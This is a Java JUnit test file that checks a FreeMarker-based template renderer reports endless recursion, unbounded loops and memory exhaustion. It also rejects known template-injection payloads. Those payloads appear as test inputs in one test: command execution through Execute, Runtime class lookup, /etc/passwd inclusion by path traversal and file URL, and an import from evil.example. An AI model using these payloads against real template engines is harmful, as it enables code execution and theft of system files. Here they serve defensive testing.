package org.planpress.render.html;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.planpress.finding.Finding;
import org.planpress.words.Language;
import org.planpress.words.Voice;

/** A template that has no end is told at its place, in a moment. */
class EndlessTemplatesTest {

    private static List<String> faults(String text) {
        Templates templates = new Templates(
                new TemplateFolder("templates", new TreeMap<>(Map.of("a.ftlh", text.getBytes(StandardCharsets.UTF_8)))),
                Voice.builtIn(Language.ENGLISH));
        TemplateFault fault =
                catchThrowableOfType(TemplateFault.class, () -> templates.fill("a.ftlh", Map.of(), Map.of()));
        return fault.findings().stream().map(Finding::headline).toList();
    }

    @ParameterizedTest
    @CsvSource(
            quoteCharacter = '§',
            delimiter = '|',
            value = {
                "text<#macro m><@m/></#macro><@m/> | 1:5 | calls itself",
                "<#macro m>${x!}<@n/></#macro><#macro n>.<@m/></#macro><@m/> | 1: | calls itself",
                "<#function f x><#return f(x + 1)></#function>${f(1)} | 1:1 | calls itself",
                "<#list 1.. as x></#list> | 1:1 | more turns",
                "<#list 1.. as x><#assign y = x></#list> | 1:1 | more turns",
                "words <#list 1..999999999 as x></#list> | 1:7 | more turns",
                "<#list 1..999999999 as x>${x?left_pad(1000)}</#list> | 1:26 | more text",
                "<#assign a><#list 1..999999999 as x></#list></#assign> | 1:12 | more turns",
                "<#attempt><#list 1.. as x></#list><#recover>no</#attempt> | 1:11 | more turns",
            })
    void areToldWhereTheyStand(String template, String place, String what) {
        assertThat(faults(template))
                .singleElement()
                .asString()
                .startsWith("templates/a.ftlh:" + place)
                .contains(": error[template-error]: this ")
                .contains(what);
    }

    /** Neither classes by their names, nor what lies behind a value, nor a template that is not one of the folder. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "${'freemarker.template.utility.Execute'?new()('id')}",
                "${'freemarker.template.utility.ObjectConstructor'?new()('java.io.File', '/')}",
                "<#assign a = 'x'?api.class>",
                "${.data_model?api.class}",
                "${'x'.class.forName('java.lang.Runtime')}",
                "<#include '/etc/passwd'>",
                "<#include '../../../../etc/passwd'>",
                "<#include 'file:///etc/passwd'>",
                "<#import 'http://evil.example/a.ftl' as a>",
            })
    void reachNoJava(String template) {
        assertThat(faults(template)).isNotEmpty().allMatch(told -> told.startsWith("templates/a.ftlh:1:"));
    }

    @Test
    void areToldIfTheyFillTheMemory() {
        assertThat(faults("<#assign s = 'abcdefgh'>\n<#list 1..100 as x><#assign s = s + s></#list>${s}"))
                .singleElement()
                .asString()
                .startsWith("templates/a.ftlh:2:")
                .endsWith("this makes more text than there is memory");
    }
}
